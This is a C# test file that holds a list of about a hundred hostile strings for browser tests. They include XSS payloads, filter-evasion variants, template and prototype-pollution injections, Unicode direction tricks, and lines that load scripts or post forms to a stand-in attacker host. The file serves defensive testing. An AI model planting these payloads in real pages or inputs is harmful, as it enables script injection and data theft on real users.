namespace Aivors.Tests.Browser.Driving;

/// <summary>A hundred texts that would run, break out, hide or fetch something, were they taken for anything but text.</summary>
internal static class HostileStrings
{
    // NUL, RLO and the like stand by name, so that this file holds no hidden signs.
    private const string Lines =
        """
        <script>window.pwned=1</script>
        <script src=https://evil.example.test/x.js></script>
        <SCRIPT>window.pwned=2</SCRIPT>
        <scr<script>ipt>window.pwned=3</scr</script>ipt>
        "><script>window.pwned=4</script>
        '><script>window.pwned=5</script>
        </script><script>window.pwned=6</script>
        </title><script>window.pwned=7</script>
        </textarea><script>window.pwned=8</script>
        --><script>window.pwned=9</script>
        <script type=module>window.pwned=10</script>
        <script>alert(String.fromCharCode(88))</script>
        <img src=x onerror=window.pwned=11>
        <img src=x onerror="alert(1)">
        "><img src=x onerror=window.pwned=12>
        <img src="https://evil.example.test/pixel.gif">
        <img/src=x/onerror=window.pwned=13>
        <IMG SRC=javascript:alert('XSS')>
        <img src=x:x onerror=window.pwned=14//
        <img srcset="https://evil.example.test/a.png 1x">
        <svg onload=window.pwned=15>
        <svg/onload=window.pwned=16>
        <svg><script>window.pwned=17</script></svg>
        <svg><animate onbegin=window.pwned=18 attributeName=x dur=1s>
        <svg><a xlink:href="javascript:window.pwned=19"><text x=20 y=20>click</text></a></svg>
        <svg><use href="data:image/svg+xml,<svg id='x' onload='window.pwned=20'/>#x">
        <svg><foreignObject><body onload=window.pwned=21></foreignObject></svg>
        <math><mi xlink:href="javascript:window.pwned=22">x</mi></math>
        <math><mtext><table><mglyph><style><img src=x onerror=window.pwned=23>
        <body onload=window.pwned=24>
        <body background="https://evil.example.test/b.png">
        <iframe src="javascript:window.pwned=25"></iframe>
        <iframe srcdoc="<script>parent.pwned=26</script>"></iframe>
        <iframe src=https://evil.example.test/></iframe>
        <object data="javascript:window.pwned=27"></object>
        <object data="data:text/html,<script>parent.pwned=28</script>"></object>
        <embed src="javascript:window.pwned=29">
        <embed src="https://evil.example.test/e.swf">
        <link rel=stylesheet href=https://evil.example.test/x.css>
        <link rel=import href="data:text/html,<script>window.pwned=30</script>">
        <meta http-equiv=refresh content="0;url=https://evil.example.test/">
        <meta http-equiv=refresh content="0;url=javascript:window.pwned=31">
        <base href="https://evil.example.test/">
        <form action="https://evil.example.test/"><input type=submit value=Go></form>
        <form id=x></form><button form=x formaction="javascript:window.pwned=32">X</button>
        <input autofocus onfocus=window.pwned=33>
        <select autofocus onfocus=window.pwned=34>
        <textarea autofocus onfocus=window.pwned=35>
        <keygen autofocus onfocus=window.pwned=36>
        <video src=x onerror=window.pwned=37></video>
        <video><source onerror="window.pwned=38"></video>
        <audio src=x onerror=window.pwned=39></audio>
        <audio src="https://evil.example.test/a.mp3" autoplay></audio>
        <details open ontoggle=window.pwned=40>x</details>
        <marquee onstart=window.pwned=41>x</marquee>
        <div onmouseover="window.pwned=42">hover me</div>
        <div style="position:fixed;inset:0;background:red">cover</div>
        <div style="background:url(https://evil.example.test/c.png)">x</div>
        <style>*{display:none!important}</style>
        <style>@import 'https://evil.example.test/i.css';</style>
        <style>body{background:url("javascript:window.pwned=43")}</style>
        </style><script>window.pwned=44</script>
        <x onclick=window.pwned=45 tabindex=1 id=x>click</x>
        <a href="javascript:window.pwned=46">link</a>
        <a href="JaVaScRiPt:window.pwned=47">link</a>
        <a href="java&#x0A;script:window.pwned=48">link</a>
        <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>
        <a href="vbscript:msgbox(1)">link</a>
        javascript:window.pwned=49
        javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+window.pwned=50//'>
        data:text/html,<script>window.pwned=51</script>
        " onmouseover="window.pwned=52
        ' onfocus='window.pwned=53' autofocus='
        ` onerror=window.pwned=54
        \"><script>window.pwned=55</script>
        \u003cscript\u003ewindow.pwned=56\u003c/script\u003e
        &lt;script&gt;window.pwned=57&lt;/script&gt;
        &#60;script&#62;window.pwned=58&#60;/script&#62;
        &amp;lt;b&amp;gt; &quot;twice&quot; &nbsp; &copy;
        %3Cscript%3Ewindow.pwned=59%3C/script%3E
        +ADw-script+AD4-window.pwned=60+ADw-/script+AD4-
        {{constructor.constructor('window.pwned=61')()}}
        ${window.pwned=62}
        #{window.pwned=63}
        <%= window.pwned=64 %>
        {{7*7}}[[7*7]]{%raw%}
        <div ng-app ng-csp><p ng-click=$event.view.pwned=65>x</p></div>
        {"__proto__":{"pwned":66}}
        {"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=window.pwned=67>"}}
        ![x](javascript:window.pwned=68)
        [link](javascript:window.pwned=69) **bold** _it_ `code`
        [x]: javascript:window.pwned=70 "title"
        <!--#exec cmd="id"--><!--[if IE]><script>window.pwned=71</script><![endif]-->
        <![CDATA[<script>window.pwned=72</script>]]>
        <?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>window.pwned=73</script></x>
        {RLO}exe.gpj{PDF} and then {RLI}<b>turned{PDI} text
        zero{ZWSP}width{ZWJ}<i>joined{BOM}</i>{LS}line{PS}paragraph
        nul{NUL}byte<script{NUL}>window.pwned=74</script>
        {MARK}<img src=x onerror=window.pwned=75>{ENDMARK}
        مرحبا <b dir=rtl>שלום</b> 🙂👩‍👩‍👧‍👦 Z͑ͫ̓a̴l̷g̵o <script>window.pwned=76</script>
        """;

    private static readonly (string Name, string Sign)[] Signs =
    [
        ("{RLO}", "\u202E"), ("{PDF}", "\u202C"), ("{RLI}", "\u2067"), ("{PDI}", "\u2069"), ("{ZWSP}", "\u200B"), ("{ZWJ}", "\u200D"), ("{BOM}", "\uFEFF"),
        ("{LS}", "\u2028"), ("{PS}", "\u2029"), ("{NUL}", "\0"), ("{MARK}", "\uE000"), ("{ENDMARK}", "\uE001"),
    ];

    public static IReadOnlyList<string> All { get; } =
        [.. Lines.ReplaceLineEndings("\n").Split('\n').Select(line => Signs.Aggregate(line, (text, sign) => text.Replace(sign.Name, sign.Sign, StringComparison.Ordinal)))];
}
